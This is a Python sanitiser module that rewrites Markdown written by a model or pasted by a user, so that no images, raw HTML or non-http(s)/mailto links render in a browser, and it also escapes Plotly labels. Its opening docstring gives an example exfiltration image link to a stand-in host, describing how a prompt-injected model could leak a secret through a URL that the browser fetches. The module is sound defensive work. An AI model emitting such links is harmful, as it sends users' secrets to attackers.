"""Text for the browser: model Markdown that cannot make it fetch anything, and user ids as plain text.

A prompt-injected model can write ``![x](https://evil.example/?q=<secret>)``: rendered, the
browser fetches that URL. ``safe_markdown`` rewrites model (or pasted) Markdown so that no
image renders (an image becomes text with its alt and URL; the URL is a link only when it is
http or https), only http(s) and mailto links stay links (any other target, ``data:`` and
``javascript:`` included, leaves the link text as plain text), raw HTML is escaped, and
reference-style links are resolved and checked like inline ones. The result is checked again
with a CommonMark parser; if anything unsafe survived, the whole text is escaped instead.
"""

from __future__ import annotations

import functools
import html
import re

SAFE_SCHEMES = ("http", "https", "mailto")
_PUNCT = "!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~"
_ESCAPE = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~:$&^=\"'])")
_SCHEME = re.compile(r"([A-Za-z][A-Za-z0-9+.\-]*):")
_AUTOLINK = re.compile(r"<([A-Za-z][A-Za-z0-9+.\-]{1,31}:[^<>\x00-\x20]*)>")
_EMAIL = re.compile(r"<([a-zA-Z0-9.!#$%&'*+/=?^_`{|}~-]+@[a-zA-Z0-9](?:[a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?"
                    r"(?:\.[a-zA-Z0-9](?:[a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?)*)>")
_FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,})")
_DEFINITION = re.compile(r"^ {0,3}\[((?:[^\[\]\\]|\\.){1,999})\]:[ \t]*(<[^<>\n]*>|\S+)"
                         r"(?:[ \t]+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^()\n]*\)))?[ \t]*$")
_BACKSLASH = re.compile(r"\\([!-/:-@\[-`{-~])")
_URL_SHOWN = 80  # characters of a dropped image URL shown as text


def plain(text: str) -> str:
    """``text`` escaped so that Markdown shows it literally (for user ids, names, anything not Markdown)."""
    return _ESCAPE.sub(r"\\\1", str(text)).replace("\n", " ")


def plotly_text(text: str) -> str:
    """``text`` for a Plotly label or hover: Plotly renders a subset of HTML (``<a href>`` too), entities not."""
    return str(text).replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def safe_url(dest: str) -> bool:
    """Whether a link destination, as written in Markdown, is an http(s) or mailto URL once a browser reads it."""
    url = html.unescape(_BACKSLASH.sub(r"\1", dest))
    url = re.sub(r"[\t\n\r]", "", url).strip("\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f\x10\x11\x12"
                                               "\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f ")
    m = _SCHEME.match(url)
    return bool(m) and m.group(1).lower() in SAFE_SCHEMES and "<" not in url and ">" not in url


def _label(raw: str) -> str:
    return " ".join(raw.split()).casefold()


_OPEN_DEST = re.compile(r"\([ \t]*\n?[ \t]*")
_ANGLE_DEST = re.compile(r"<((?:[^<>\n\\]|\\.)*)>")
# Parentheses nested one deep, as in https://en.wikipedia.org/wiki/A_(b): deeper is not taken as a link.
_RAW_DEST = re.compile(r"(?:[^\x00-\x20\x7f()\\]|\\.|\((?:[^\x00-\x20\x7f()\\]|\\.)*\))*")
_TITLE_END = re.compile(r"[ \t]*\n?[ \t]*(?:\"(?:[^\"\\]|\\.)*\"|'(?:[^'\\]|\\.)*'|\((?:[^()\\]|\\.)*\))?"
                        r"[ \t]*\n?[ \t]*\)", re.S)
_MAX_NESTING = 16  # links inside link text deeper than this stay text


def _run(s: str, i: int) -> int:
    """The length of the run of backticks at ``i``."""
    j = i
    while j < len(s) and s[j] == "`":
        j += 1
    return j - i


class _Scan:
    """One stretch of Markdown outside fenced code, read once: code spans, autolinks and bracket pairs.

    Reading it in one left-to-right pass (as a CommonMark parser does) keeps the rewrite linear
    in the text's length, whatever a model writes.
    """

    def __init__(self, s: str, defs: dict[str, str]) -> None:
        self.s, self.defs = s, defs
        self.code: dict[int, int] = {}  # code span start -> end
        self.autolink: dict[int, int] = {}  # autolink start -> end
        self.pair: dict[int, int] = {}  # "[" -> its matching "]"
        no_closer: dict[int, int] = {}  # backtick run length -> a position after which there is no closer
        stack, i, n = [], 0, len(s)
        while i < n:
            c = s[i]
            if c == "\\" and i + 1 < n and s[i + 1] in _PUNCT:
                i += 2
            elif c == "`":
                run = _run(s, i)
                end = None if no_closer.get(run, n + 1) <= i else self._code_end(i, run)
                if end is None:
                    no_closer[run] = i
                    i += run
                else:
                    self.code[i] = end
                    i = end
            elif c == "<" and (m := _AUTOLINK.match(s, i) or _EMAIL.match(s, i)):
                self.autolink[i] = m.end()
                i = m.end()
            else:
                if c == "[":
                    stack.append(i)
                elif c == "]" and stack:
                    self.pair[stack.pop()] = i
                i += 1

    def _code_end(self, i: int, run: int) -> int | None:
        s, j = self.s, i + run
        while (k := s.find("`" * run, j)) >= 0:
            if k + run < len(s) and s[k + run] == "`":  # a longer run does not close it
                j = k + _run(s, k)
                continue
            return k + run
        return None

    def link(self, i: int) -> tuple[int, int, str, int] | None:
        """A link whose ``[`` is at ``i``: its text's bounds, its destination as written, where it ends."""
        s, close = self.s, self.pair.get(i)
        if close is None:
            return None
        after = close + 1
        if s.startswith("(", after):
            j = _OPEN_DEST.match(s, after).end()
            m = _ANGLE_DEST.match(s, j) or _RAW_DEST.match(s, j)
            title = _TITLE_END.match(s, m.end())
            if title:
                return i + 1, close, m.group(1) if m.re is _ANGLE_DEST else m.group(0), title.end()
        text = _label(s[i + 1:close]) if close - i <= 1000 else ""  # a label is at most 999 characters
        if s.startswith("[", after) and (ref := self.pair.get(after)) is not None:
            label = (_label(s[after + 1:ref]) if ref - after <= 1000 else "") or text
            if label in self.defs:
                return i + 1, close, self.defs[label], ref + 1
        if text in self.defs:
            return i + 1, close, self.defs[text], after
        return None

    def image(self, alt: tuple[int, int], dest: str, depth: int) -> str:
        """An image as text: 'image: alt' and its URL, a link only when it is http(s)."""
        url = _unbracket(dest.strip())
        shown = plain(url if len(url) <= _URL_SHOWN else url[:_URL_SHOWN] + "…")
        label = f"image: {self.rewrite(*alt, depth + 1)}" if self.s[alt[0]:alt[1]].strip() else "image"
        if safe_url(url) and not url.lower().startswith("mailto:"):
            return f"({label} · [{shown}](<{url}>))"
        return f"({label} · not loaded: {shown})"

    def rewrite(self, lo: int, hi: int, depth: int = 0) -> str:
        """``s[lo:hi]`` rewritten: every ``[``, ``<`` and ``![`` in it is accounted for."""
        s, out, i = self.s, [], lo
        while i < hi:
            c = s[i]
            if c == "\\" and i + 1 < hi and s[i + 1] in _PUNCT:
                out.append(s[i:i + 2])
                i += 2
            elif i in self.code and self.code[i] <= hi:
                out.append(s[i:self.code[i]])
                i = self.code[i]
            elif c == "`":
                run = min(_run(s, i), hi - i)
                out.append(s[i:i + run])
                i += run
            elif c == "<":
                end = self.autolink.get(i)
                if end is not None and end <= hi and (s[i + 1:end - 1].find(":") < 0 or safe_url(s[i + 1:end - 1])):
                    out.append(s[i:end])  # a safe URL, or an e-mail address (a mailto: link)
                    i = end
                else:
                    out.append("\\<")
                    i += 1
            elif c in "![" and depth < _MAX_NESTING and (found := self.link(i + (c == "!"))) and found[3] <= hi:
                text_lo, text_hi, dest, i = found
                if c == "!":
                    out.append(self.image((text_lo, text_hi), dest, depth))
                else:
                    url, inner = _unbracket(dest.strip()), self.rewrite(text_lo, text_hi, depth + 1)
                    out.append(f"[{inner}](<{url}>)" if safe_url(url) else inner)
            elif c in "[]" or (c == "!" and s.startswith("[", i + 1)):
                out.append("\\" + c)
                i += 1
            elif c in "xX" and s[i:i + 5].lower() == "xmpp:" and (i == 0 or not s[i - 1].isalnum()):
                out.append(s[i:i + 4] + "\\:")  # GFM would autolink an xmpp: address
                i += 5
            else:
                out.append(c)
                i += 1
        return "".join(out)


def _unbracket(dest: str) -> str:
    return dest[1:-1] if dest.startswith("<") and dest.endswith(">") else dest


def _blocks(text: str) -> tuple[list[tuple[bool, str]], dict[str, str]]:
    """Split into (is fenced code, text) pieces; collect and drop link reference definitions."""
    pieces: list[tuple[bool, str]] = []
    defs: dict[str, str] = {}
    buf: list[str] = []
    fence = None
    for line in text.splitlines(keepends=True):
        if fence is None:
            m = _FENCE.match(line)
            if m and not (m.group(1)[0] == "`" and "`" in line[m.end():]):
                pieces.append((False, "".join(buf)))
                buf, fence = [line], m.group(1)
                continue
            d = _DEFINITION.match(line.rstrip("\r\n"))
            if d and _label(d.group(1)):
                defs.setdefault(_label(d.group(1)), d.group(2))
                continue
            buf.append(line)
        else:
            buf.append(line)
            close = line.strip()
            indent = len(line) - len(line.lstrip(" "))
            if indent <= 3 and close and set(close) == {fence[0]} and len(close) >= len(fence):
                pieces.append((True, "".join(buf)))
                buf, fence = [], None
    pieces.append((fence is not None, "".join(buf)))
    return pieces, defs


@functools.cache
def _parser():
    from markdown_it import MarkdownIt

    parser = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    parser.validateLink = lambda url: True  # see every link, not only those markdown-it would allow
    return parser


def _unsafe_left(md: str) -> bool:
    """Parse ``md`` as CommonMark: True if any image, raw HTML or non-http(s)/mailto link would render."""

    def bad(tokens) -> bool:
        for t in tokens:
            if t.type in ("image", "html_inline", "html_block"):
                return True
            if t.type == "link_open" and not safe_url(str(t.attrGet("href") or "")):
                return True
            if t.children and bad(t.children):
                return True
        return False

    return bad(_parser().parse(md))


def safe_markdown(text: str | None) -> str:
    """``text`` (model output, pasted prompts) as Markdown that renders no image, no HTML and only safe links."""
    if not text:
        return ""
    pieces, defs = _blocks(text)
    out = "".join(chunk if code else _Scan(chunk, defs).rewrite(0, len(chunk)) for code, chunk in pieces)
    if _unsafe_left(out):
        return _ESCAPE.sub(r"\\\1", text)
    return out


def plotly_safe(fig):
    """``fig`` with every text value of its traces escaped (axis labels, legend, hover): none renders as HTML."""
    for trace in fig.data:
        for attr in ("x", "y", "text", "hovertext"):
            values = getattr(trace, attr, None)
            if values is not None and not isinstance(values, str) and any(isinstance(v, str) for v in values):
                setattr(trace, attr, [plotly_text(v) if isinstance(v, str) else v for v in values])
        if isinstance(getattr(trace, "name", None), str):
            trace.name = plotly_text(trace.name)
    return fig
